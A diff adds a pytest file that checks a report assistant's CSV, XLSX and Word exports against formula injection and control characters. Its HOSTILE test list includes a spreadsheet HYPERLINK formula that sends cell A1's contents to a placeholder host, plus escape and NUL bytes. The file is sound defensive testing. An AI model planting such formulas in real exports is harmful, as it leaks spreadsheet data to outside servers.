@@ -1,0 +1,67 @@
+"""Report text is data (issue 16): no live formula and no control character reaches an
+export or a Word draft. The texts are written for the test."""
+from __future__ import annotations
+
+import csv
+
+import pytest
+
+from assistant.store_export import COLUMNS, write_records
+from assistant.textsafe import printable, spreadsheet_text
+
+HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"点击")', "=100%", "+86 1234", "-5万元", "@SUM(A1)",
+           "\t=1+1", "含\x1b[2J转义\x00与\x07控制字符的问题"]
+
+
+def _records():
+    base = {name: "" for name, _ in COLUMNS}
+    out = []
+    for i, text in enumerate(HOSTILE):
+        rec = dict(base, document="报告.txt", project="项目", kind="problem", text=text, target=text,
+                   start=i * 10, end=i * 10 + 5, themes=["OTHER"])
+        out.append(rec)
+    return out
+
+
+def test_printable_keeps_lines_and_tabs_and_marks_the_rest():
+    assert printable("一\t二\n三") == "一\t二\n三"
+    assert printable("a\x1b[31mb\x00") == "a\ufffd[31mb\ufffd"
+    assert spreadsheet_text("=1+1") == "'=1+1" and spreadsheet_text("完成") == "完成"
+
+
+def test_xlsx_export_writes_text_never_formulas(tmp_path):
+    openpyxl = pytest.importorskip("openpyxl")
+    path = tmp_path / "out.xlsx"
+    assert write_records(_records(), "xlsx", path) == len(HOSTILE)
+    sheet = openpyxl.load_workbook(path).active
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert HOSTILE[0] in texts and "=100%" in texts               # kept as the report printed it
+    assert not any("\x1b" in t or "\x00" in t for t in texts)
+    numbers = [c.value for c in cells if isinstance(c.value, int)]
+    assert 10 in numbers                                           # numbers stay numbers
+
+
+def test_csv_export_prefixes_formula_starts(tmp_path):
+    path = tmp_path / "out.csv"
+    write_records(_records(), "csv", path)
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh))
+    texts = [row[[t for _, t in COLUMNS].index("内容")] for row in rows[1:]]
+    assert all(not t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)
+    assert texts[1] == "'=100%"
+    assert not any("\x1b" in t for t in texts)
+
+
+def test_word_draft_survives_control_characters(tmp_path):
+    docx = pytest.importorskip("docx")
+    from assistant.draft import draft_report
+    from assistant.model import Project, Report, Statement
+
+    text = "存在问题：资料报送\x1b[2J不及时\x00，影响评价。\n"
+    report = Report(doc="坏.txt", projects=[Project("某项目", "self_evaluation")],
+                    statements=[Statement("problem", "资料报送\x1b[2J不及时\x00，影响评价。", "某项目", [], 5, 22)])
+    path = draft_report(report, text).to_docx(tmp_path / "d.docx")
+    body = "\n".join(p.text for p in docx.Document(str(path)).paragraphs)
+    assert "不及时" in body and "\x1b" not in body
